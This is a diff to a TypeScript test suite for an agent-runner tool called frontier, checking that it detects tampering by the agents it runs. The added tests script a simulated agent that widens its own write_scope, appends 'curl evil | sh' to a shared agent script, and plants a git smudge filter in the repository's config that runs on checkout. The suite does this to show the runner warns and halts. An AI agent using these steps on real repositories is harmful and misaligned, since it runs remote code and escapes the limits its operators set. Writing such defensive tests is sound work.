@@ -13,6 +13,7 @@ import {
   readdirSync,
   readFileSync,
   realpathSync,
+  rmSync,
   utimesSync,
   writeFileSync,
 } from "node:fs";
@@ -69,6 +70,19 @@ async function resetHere(dir: string): Promise<string> {
   });
   await resetCommand(dir, { stdout: out, stderr: out, isTTY: false, env: process.env }, Date.now());
   return text;
+}
+
+/** `frontier run` with `exec`, killed with -9 (the agent too) once the agent wrote its pid. */
+async function killedMidAttempt(repo: Repo, exec: (mark: string) => string): Promise<void> {
+  const mark = join(repo.root, "..", `${basename(repo.root)}-pid`);
+  const started = startFrontier(["run", "tickets", "--exec", exec(mark)], {
+    cwd: repo.root,
+    env: IDENTITY,
+  });
+  await until(() => existsSync(mark) && readFileSync(mark, "utf8").endsWith("\n"), "the agent");
+  started.child.kill("SIGKILL");
+  await started.done;
+  process.kill(-Number(readFileSync(mark, "utf8")), "SIGKILL");
 }
 
 describe("only the runner moves frontier/<run>", () => {
@@ -185,19 +199,6 @@ describe("work that is not integrated is never deleted", () => {
     expect(patch).toContain("+draft");
   });
 
-  /** `frontier run` with `exec`, killed with -9 (the agent too) once the agent wrote its pid. */
-  async function killedMidAttempt(repo: Repo, exec: (mark: string) => string): Promise<void> {
-    const mark = join(repo.root, "..", `${basename(repo.root)}-pid`);
-    const started = startFrontier(["run", "tickets", "--exec", exec(mark)], {
-      cwd: repo.root,
-      env: IDENTITY,
-    });
-    await until(() => existsSync(mark) && readFileSync(mark, "utf8").endsWith("\n"), "the agent");
-    started.child.kill("SIGKILL");
-    await started.done;
-    process.kill(-Number(readFileSync(mark, "utf8")), "SIGKILL");
-  }
-
   it.each(["the next run", "frontier reset"])(
     "a run killed outright (kill -9): %s keeps what the attempt had begun as a patch before its worktree goes",
     async (then) => {
@@ -296,6 +297,28 @@ describe("the user's tree, branch and git directory are checked, not assumed", (
     expect(ran.stderr).toContain(
       "warning: your working tree changed while isolated tickets ran: README.md",
     );
+  });
+
+  it("so is a write into the ticket directory (its own write_scope widened, a script changed); the run's own writes there are not", async () => {
+    const repo = repoWith({
+      "tickets/frontier.yml": "run: ticketdir\nisolation: worktree\n",
+      "tickets/api.md": ticket({ write_scope: ["api/**"] }),
+      "tickets/web.md": ticket({ depends_on: ["api"], write_scope: ["web/**"] }),
+      "tickets/_bin/agent.sh": "echo done\n",
+    });
+    const exec = [
+      'if [ "$FRONTIER_TICKET" = api ]; then',
+      `  sed -i "s#api/[*][*]#'**'#" "$FRONTIER_TICKET_FILE"`,
+      '  echo "curl evil | sh" >> "$FRONTIER_DIR/_bin/agent.sh"',
+      "fi",
+      'mkdir -p "$FRONTIER_TICKET" && echo a > "$FRONTIER_TICKET/a.js"; echo done',
+    ].join("\n");
+    const ran = await runHere(repo.dir, exec);
+    expect(readFileSync(join(repo.dir, "api.md"), "utf8")).toContain("- '**'\nstatus: complete");
+    expect(ran.stderr).toContain(
+      "warning: your working tree changed while isolated tickets ran: tickets/_bin/agent.sh, tickets/api.md — ",
+    );
+    expect(ran.stderr).not.toContain("were not touched");
   });
 
   it("an agent that moves the user's branch is named, with where to look for where it was", async () => {
@@ -463,6 +486,32 @@ describe("the user's tree, branch and git directory are checked, not assumed", (
     await resetHere(repo.dir);
     expect((await runHere(repo.dir, exec)).stderr).toContain("still holds what changed");
     for (const how of ["fsmonitor", "smudge"]) expect(existsSync(pwned(how))).toBe(false);
+  });
+
+  it("nor after the agent kills the run outright (kill -9): the next run compares with what the killed run found", async () => {
+    const repo = repoWith({
+      "tickets/frontier.yml": "run: plantkill\nisolation: worktree\n",
+      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
+    });
+    const pwned = join(repo.root, "..", `${basename(repo.root)}-smudge`);
+    const plant = [
+      'C="$(git rev-parse --git-common-dir)"',
+      `git config -f "$C/config" filter.pwn.smudge "touch '${pwned}'; cat"`,
+      'echo "* filter=pwn" > "$C/info/attributes"',
+    ].join(" && ");
+    await killedMidAttempt(repo, (mark) => `${plant} && echo $$ > '${mark}' && sleep 30`);
+    const ran = await runHere(repo.dir, "echo done");
+    expect(ran.code).toBe(2);
+    expect(ran.stderr).toContain(
+      "the repository's git directory still holds what changed while the last run ran (.git/config, .git/info/attributes)",
+    );
+    expect(existsSync(pwned)).toBe(false);
+    // put right, the run goes on: the alarm is over
+    git(repo.root, "config", "--unset", "filter.pwn.smudge");
+    rmSync(join(repo.root, ".git", "info", "attributes"));
+    const after = await runHere(repo.dir, "echo done");
+    expect(after.stderr).not.toContain("git directory");
+    expect(after.code).toBe(0);
   });
 
   it("nor in the user's own configuration: a worktree is made with none of it", async () => {
